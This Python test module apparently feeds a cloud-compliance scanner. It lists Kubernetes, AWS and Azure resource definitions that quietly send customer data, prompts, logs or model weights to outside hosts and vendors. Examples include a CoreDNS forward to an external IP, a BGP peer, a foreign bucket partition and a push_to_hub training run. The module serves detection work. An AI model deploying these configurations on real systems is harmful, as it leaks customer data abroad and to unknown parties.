"""Attacks that take data out of the country or the company, by ways that carry no plain address (2026-11-28)."""

from ..blind import GROUP, ME, TAGS, aws, az, crd, k8s, meta, pod, workload
from ..harness import Given
from . import Attack

RES = ("FJ-RES-", "FJ-IDN-", "FJ-ESC-", "FJ-EXP-")
R = "me-central-1"
RG = {"resourceGroupName": "rg-platform"}
HERE = {**RG, "location": "uaenorth", "tags": TAGS}
OURS = f"{GROUP}/providers/Microsoft"
ABROAD = "data of customers is sent to a host or store of a stranger, wherever that is"
OUTSIDE = "models process what customers write in other regions"
ROW = {"columns": [{"name": "iban", "type": "string"}]}
COREFILE = ".:53 {\n  errors\n  kubernetes cluster.local in-addr.arpa\n  forward . 52.28.59.10\n  cache 30\n}\n"


def _program(*args: str, secret: str = "", **env: str) -> tuple[Given, ...]:
    """Returns a deployment of one pod whose program has arguments, variables, and a key from a secret."""
    listed: list[dict[str, object]] = [{"name": key, "value": value} for key, value in env.items()]
    if secret:
        listed.append({"name": secret, "valueFrom": {"secretKeyRef": {"name": "keys", "key": secret}}})
    return (workload("apps/v1:Deployment", {"env": listed, **({"args": list(args)} if args else {})}, replicas=1),)


def _agent(**env: str) -> tuple[Given, ...]:
    """Returns a daemon set of Datadog's agent, whose site is the United States unless a variable names another."""
    listed: list[dict[str, object]] = [{"name": key, "value": value} for key, value in env.items()]
    listed.append({"name": "DD_API_KEY", "valueFrom": {"secretKeyRef": {"name": "keys", "key": "api"}}})
    labels = {**TAGS, "app": "agent"}
    return (k8s("apps/v1:DaemonSet", {"metadata": meta("agent"), "spec": {
        "selector": {"matchLabels": {"app": "agent"}},
        "template": {"metadata": {"labels": labels}, "spec": pod({"env": listed})}}}),)  # fmt: skip


ATTACKS = (
    Attack("security notices of the account go to a private mailbox", RES, (aws("account/AlternativeContact", {
        "alternateContactType": "SECURITY", "name": "Ops", "title": "Ops", "emailAddress": "ops.bank@mail-box.io",
        "phoneNumber": "+12025550123"}),), "major", "the stranger learns of every incident first"),
    Attack("a partition of a table lies in an unlisted bucket", RES, (aws("glue/Partition", {
        "databaseName": "core", "tableName": "customers", "partitionValues": ["2026-11-28"], "storageDescriptor": {
            **ROW, "location": "s3://their-lake/customers/dt=2026-11-28/"}}),),
        "critical", "the day's rows are written where the partition is"),
    Attack("an inference profile copies one of the whole world", RES, (aws("bedrock/InferenceProfile", {
        "name": "chat", "tags": TAGS, "modelSource": {
            "copyFrom": f"arn:aws:bedrock:{R}:{ME}:inference-profile/global.anthropic.claude-sonnet-4-5-v1:0"}}),),
        "critical", OUTSIDE),
    Attack("a router of a stranger learns the addresses of pods", RES, (
        k8s("crd.projectcalico.org/v1:BGPPeer", {"metadata": {"name": "x", "labels": TAGS}, "spec": {
            "peerIP": "52.28.59.10", "asNumber": 64999}}),),
        "critical", "the peer announces routes, and receives what the pods send"),
    Attack("the resolver of the cluster asks a machine of a stranger", RES, (k8s("core/v1:ConfigMap", {
        "metadata": meta("coredns", "kube-system"), "data": {"Corefile": COREFILE}}),),
        "critical", "the stranger sees every name, and answers with any address"),
    Attack("a route of a gateway leads to a name on the web", RES, (crd("gateway.networking.k8s.io/v1:HTTPRoute", {
        "hostnames": ["pay.example.ae"], "parentRefs": [{"name": "g"}], "rules": [{"backendRefs": [{
            "group": "networking.istio.io", "kind": "Hostname", "name": "collector-app.io", "port": 443}]}]}),),
        "critical", ABROAD),
    Attack("the public record of a service is a stranger's address", RES, (k8s("core/v1:Service", {
        "metadata": meta(annotations={
            "external-dns.alpha.kubernetes.io/hostname": "pay.example.ae",
            "external-dns.alpha.kubernetes.io/target": "52.28.59.10"}),
        "spec": {"type": "ClusterIP", "selector": {"app": "x"}, "ports": [{"port": 443}]}}),),
        "critical", "customers' requests are answered by the stranger"),
    Attack("a model of a workspace comes from a registry of a stranger", (*RES, "FJ-ENC-"), (
        az("machinelearningservices:ModelVersion", {**RG, "workspaceName": "w", "name": "llm", "version": "1",
           "properties": {"modelType": "custom_model", "modelUri":
               "azureml://registries/strangers-models/models/llm/versions/3"}}),),
        "major", "the weights, and the code that loads them, are a stranger's"),
    Attack("an agent sends all logs to the site that is its default", RES, _agent(
        DD_LOGS_ENABLED="true", DD_LOGS_CONFIG_CONTAINER_COLLECT_ALL="true", DD_APM_ENABLED="true"),
        "critical", "without DD_SITE the agent sends to datadoghq.com, in the United States"),
    Attack("prompts are traced by a service that no variable names", RES, _program(
        LANGSMITH_TRACING="true", LANGSMITH_PROJECT="orders", secret="LANGSMITH_API_KEY"),
        "critical", "without LANGSMITH_ENDPOINT every prompt and answer goes to api.smith.langchain.com"),
    Attack("a training uploads its model to a hub", RES, _program(
        "train.py", "--push_to_hub", "--hub_model_id=someone/orders", "--report_to=none", secret="HF_TOKEN"),
        "critical", "weights that learnt from customers' data are on the web"),
    Attack("a training reports to the vendor of its library", RES, _program(
        "train.py", "--report_to=wandb", secret="WANDB_API_KEY", WANDB_MODE="online", WANDB_LOG_MODEL="end"),
        "critical", "without WANDB_BASE_URL metrics, samples and weights go to api.wandb.ai"),
    Attack("a copy goes to a drive that has no address", RES, _program(
        "sync", "/data", "out:backup", RCLONE_CONFIG_OUT_TYPE="drive", secret="RCLONE_CONFIG_OUT_TOKEN"),
        "critical", "the type alone says that files go to Google Drive"),
    Attack("a backup goes to a bucket of Backblaze by a short name", RES, _program(
        "backup", "/data", RESTIC_REPOSITORY="b2:their-lake:/db", secret="B2_ACCOUNT_KEY"), "critical", ABROAD),
    Attack("a program writes to an account of storage that it has by name", RES, _program(
        AZURE_STORAGE_ACCOUNT="theirstore", AZURE_STORAGE_CONTAINER="in", secret="AZURE_STORAGE_SAS_TOKEN"),
        "critical", ABROAD),
    Attack("rows are loaded into an account of Snowflake", RES, _program(
        SNOWFLAKE_ACCOUNT="ab12345", SNOWFLAKE_DATABASE="CORE", secret="SNOWFLAKE_PRIVATE_KEY"),
        "critical", "an account without a region is in the West of the United States"),
    Attack("telemetry goes to a component of unknown owner by its key", RES, _program(
        APPINSIGHTS_INSTRUMENTATIONKEY="9b1d2f3a-0000-4444-8888-aaaaaaaaaaaa"),
        "major", "without a connection string the library sends to the endpoint of the world"),
)  # fmt: skip
